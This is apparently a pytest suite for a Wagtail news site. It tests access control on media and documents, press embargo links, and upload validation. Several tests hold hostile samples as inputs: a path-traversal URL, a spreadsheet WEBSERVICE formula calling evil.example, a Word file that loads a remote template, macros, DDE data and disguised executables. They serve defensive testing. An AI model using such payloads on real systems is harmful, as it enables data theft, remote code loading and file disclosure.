"""Pictures and documents are for the readers of the pages on which they stand."""

import io
import re

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from PIL import Image as Drawing
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.images.blocks import ImageBlock
from wagtail.models import Collection, CollectionViewRestriction, PageViewRestriction

from home.models import DocumentReading, PressLetter
from home.press.letters import revoke_links, write_to_press
from tests.conftest import sign_in
from tests.factories.documents import text_pdf
from tests.factories.pages import NewsPageFactory, PressContactFactory, PressIndexPageFactory, PressReleasePageFactory
from tests.factories.tables import open_document, xlsx
from tests.factories.uploads import docx, relationship
from tests.home.test_press import in_hours, link_of, the_hour_comes

pytestmark = pytest.mark.django_db


@pytest.fixture
def image():
    file = io.BytesIO()
    Drawing.new("RGB", (500, 300), "teal").save(file, "JPEG")
    return get_image_model().objects.create(title="A ward", file=ContentFile(file.getvalue(), "ward.jpg"))


@pytest.fixture
def document():
    return get_document_model().objects.create(title="Plan", file=ContentFile(b"a,b", name="plan.csv"))


@pytest.fixture
def addresses(image, document) -> list[str]:
    """The original of the picture, one of its sizes, and the document."""
    return [image.file.url, image.renditions.get().url, document.url]


def shows(image, document) -> list:
    value = ImageBlock().to_python({"image": image.pk, "alt_text": "A ward", "decorative": False})
    return [("image", value), ("document", {"document": document, "text": "The plan"})]


def page_with(site, image, document, **values):
    return NewsPageFactory(parent=site.news, body=shows(image, document), **values)


def got(client: Client, addresses: list[str]) -> list[int]:
    return [client.get(address).status_code for address in addresses]


def test_what_stands_on_a_public_page_is_public_and_kept_by_browsers(site, image, document, addresses, client):
    page_with(site, image, document)

    answers = [client.get(address) for address in addresses]

    assert [answer.status_code for answer in answers] == [200, 200, 200]
    assert {answer["Cache-Control"] for answer in answers[:2]} == {"private, max-age=86400"}
    assert b"".join(answers[0].streaming_content).startswith(b"\xff\xd8")


def test_what_stands_on_a_restricted_page_alone_is_for_its_readers(
    site, image, document, addresses, client, stranger, editor
):
    page = page_with(site, image, document)
    restriction = PageViewRestriction.objects.create(page=page, restriction_type="groups")
    stranger_client, member = sign_in(stranger), sign_in(editor)
    restriction.groups.add(editor.groups.get())

    assert got(client, addresses) == [403, 403, 302]
    assert got(stranger_client, addresses) == [403, 403, 403]
    answers = [member.get(address) for address in addresses]
    assert [answer.status_code for answer in answers] == [200, 200, 200]
    assert {"no-store" in answer["Cache-Control"] for answer in answers} == {True}


def test_what_a_public_page_shows_too_is_public(site, image, document, addresses, client):
    closed = page_with(site, image, document)
    PageViewRestriction.objects.create(page=closed, restriction_type="login")
    page_with(site, image, document, slug="public")

    assert got(client, addresses) == [200, 200, 200]


def test_what_was_taken_down_is_gone_with_its_files_and_editors_still_see_them(
    site, image, document, addresses, client, editor
):
    page_with(site, image, document).unpublish()

    assert got(client, addresses) == [403, 403, 404]
    assert got(editor.client, addresses) == [200, 200, 200]


@pytest.fixture
def waiting(site, image, document):
    """A release that was written first and got its files in the version that was approved for its hour."""
    press = PressIndexPageFactory(parent=site.home, slug="press")
    page = PressReleasePageFactory(parent=press, title="Soon", slug="canary", live=False)
    page.body = shows(image, document)
    page.go_live_at = in_hours(48)
    page.save_revision().publish()
    page.refresh_from_db()
    PressContactFactory()
    write_to_press(release=page, by=None)
    return page


def test_files_of_a_release_under_embargo_are_for_nobody_before_its_hour(waiting, addresses, client, stranger):
    before = got(client, addresses), got(sign_in(stranger), addresses)
    the_hour_comes(waiting)

    assert before == ([403, 403, 404], [403, 403, 404])
    assert got(client, addresses) == [200, 200, 200]


def test_the_press_has_them_with_its_private_link_until_it_is_revoked(waiting, addresses, client):
    page = client.get(link_of(PressLetter.objects.get())).text

    shown = re.findall(r'(?:src|href)="(/(?:media|documents)/[^"]+)"', page)
    assert set(addresses[1:]) <= set(shown)
    assert got(client, addresses) == [200, 200, 200]
    assert {client.cookies[name]["path"] for name in client.cookies} == {"/media/", "/documents/"}
    revoke_links(release=waiting, by=None)
    assert got(client, addresses) == [403, 403, 404]


def test_a_private_link_opens_no_file_of_another_release(waiting, site, client):
    other = get_document_model().objects.create(title="Other", file=ContentFile(b"c,d", name="other.csv"))
    later = PressReleasePageFactory(parent=waiting.get_parent(), title="Later", slug="later", live=False)
    later.body = [("document", {"document": other, "text": "Other"})]
    later.go_live_at = in_hours(72)
    later.save_revision().publish()
    client.get(link_of(PressLetter.objects.get()))

    assert client.get(other.url).status_code == 404


def test_a_closed_collection_closes_its_pictures(site, image, document, addresses, client):
    page_with(site, image, document)
    room = Collection.get_first_root_node().add_child(name="Task force")
    CollectionViewRestriction.objects.create(collection=room, restriction_type="login")
    get_image_model().objects.filter(pk=image.pk).update(collection=room)

    assert got(client, addresses[:2]) == [403, 403]


def test_the_proxy_asks_by_head_and_gets_no_file(site, image, document, addresses, client):
    page = page_with(site, image, document)
    asked = client.head(addresses[1])
    PageViewRestriction.objects.create(page=page, restriction_type="login")

    assert (asked.status_code, asked.content) == (200, b"")
    assert client.head(addresses[1]).status_code == 403


def test_a_name_that_nobody_gave_is_not_there(client, db):
    assert client.get("/media/images/nothing.jpg").status_code == 403
    assert client.get("/media/original_images/..%2fportal.sqlite3").status_code in (403, 404)
    assert client.get("/media/documents/plan.csv").status_code == 404


@pytest.mark.parametrize("pages", [1, 3])
def test_asking_costs_the_same_on_any_number_of_pages(site, image, document, client, pages, django_assert_num_queries):
    for number in range(pages):
        page_with(site, image, document, slug=f"page-{number}")
    address = image.renditions.get().url
    client.get(address)

    with django_assert_num_queries(5):
        client.get(address)


def test_a_document_that_nothing_names_is_for_editors_alone_until_a_page_with_it_is_published(
    site, image, document, client, editor
):
    assert (client.get(document.url).status_code, editor.client.get(document.url).status_code) == (404, 200)
    page = page_with(site, image, document, live=False)
    assert client.get(document.url).status_code == 404

    page.save_revision().publish()

    assert client.get(document.url).status_code == 200


@pytest.mark.parametrize(
    ("name", "content", "is_taken"),
    [
        ("plan.pdf", b"<html><script>1</script>", False),
        ("plan.pdf", text_pdf("Plan", ["A ward"]), True),
        ("plan.pdf", docx(), False),
        ("plan.docx", b"MZ program", False),
        ("plan.xlsx", xlsx(), True),
        ("plan.xlsx", b"MZ program", False),
        ("plan.ods", open_document(), True),
        ("plan.csv", b"a,b\0", False),
        ("plan.csv", b"a,b", True),
    ],
)
def test_a_document_is_of_the_kind_that_its_name_says(site, editor, name, content, is_taken):
    file = SimpleUploadedFile(name, content)
    collection = Collection.get_first_root_node().pk

    answer = editor.client.post(
        reverse("wagtaildocs:add"), {"title": "Plan", "file": file, "collection": collection, "tags": ""}
    )

    assert get_document_model().objects.exists() is is_taken
    assert ("though its name says so" in answer.content.decode()) is not is_taken


@pytest.mark.parametrize(
    ("name", "content", "words"),
    [
        ("plan.xlsx", xlsx({"xl/vbaProject.bin": b"macro"}), "holds macros or other files. Save a copy without them."),
        ("plan.xlsx", xlsx(formula='=WEBSERVICE("https://evil.example/")'), "that holds the values instead."),
        ("plan.odt", open_document("<office:dde-source/>", kind="text"), "that holds the values instead."),
        ("plan.ods", docx(), "no OpenDocument of the kind that its name says"),
    ],
)
def test_no_way_of_packing_gets_a_program_or_foreign_data_past_the_editor(site, editor, name, content, words):
    file = SimpleUploadedFile(name, content)
    collection = Collection.get_first_root_node().pk

    answer = editor.client.post(
        reverse("wagtaildocs:add"), {"title": "Plan", "file": file, "collection": collection, "tags": ""}
    )

    assert words in answer.content.decode()
    assert not get_document_model().objects.exists()


def test_a_document_that_only_the_draft_of_a_published_page_names_is_closed_when_the_worker_has_read_it_too(
    site, document, client, editor
):
    page = NewsPageFactory(parent=site.news)
    page.body = [("document", {"document": document, "text": "The plan"})]
    page.save_revision()
    DocumentReading.objects.create(document=document, file_name=document.file.name, read_at=timezone.now())

    assert (client.get(document.url).status_code, editor.client.get(document.url).status_code) == (404, 200)
    page.get_latest_revision().publish()
    assert client.get(document.url).status_code == 200


def test_a_document_that_loads_something_is_refused_on_every_way_into_the_editor(site, document, moderator):
    template = relationship("attachedTemplate", "https://example.org/x.dotm", 'TargetMode="External"')
    hostile = docx({"word/_rels/settings.xml.rels": template})
    collection, by_script = Collection.get_first_root_node().pk, {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"}
    said = {"title": "Plan", "collection": collection, "tags": ""}
    ways = [
        (reverse("wagtaildocs:add"), "file", said, {}),
        (reverse("wagtaildocs:edit", args=[document.pk]), "file", said, {}),
        (reverse("wagtaildocs:add_multiple"), "files[]", {"title": "Plan", "collection": collection}, by_script),
        (
            reverse("wagtaildocs_chooser:create"),
            "document-chooser-upload-file",
            {f"document-chooser-upload-{name}": value for name, value in said.items()},
            {},
        ),
    ]

    for address, field, values, headers in ways:
        upload = {field: SimpleUploadedFile("plan.docx", hostile)}
        answer = moderator.client.post(address, {**values, **upload}, **headers)
        assert "when it is opened" in answer.content.decode(), address

    assert [each.file_extension for each in get_document_model().objects.all()] == ["csv"]


def test_whoever_may_not_change_a_file_that_readers_see_reads_why_and_who_can(site, image, document, editor, moderator):
    get_image_model().objects.update(uploaded_by_user=editor)
    get_document_model().objects.update(uploaded_by_user=editor)
    page_with(site, image, document)
    addresses = [reverse("wagtailimages:edit", args=[image.pk]), reverse("wagtaildocs:edit", args=[document.pk])]

    for address in addresses:
        answer = editor.client.get(address, follow=True)
        assert "Only a moderator changes it now" in answer.content.decode()
        assert moderator.client.get(address).status_code == 200
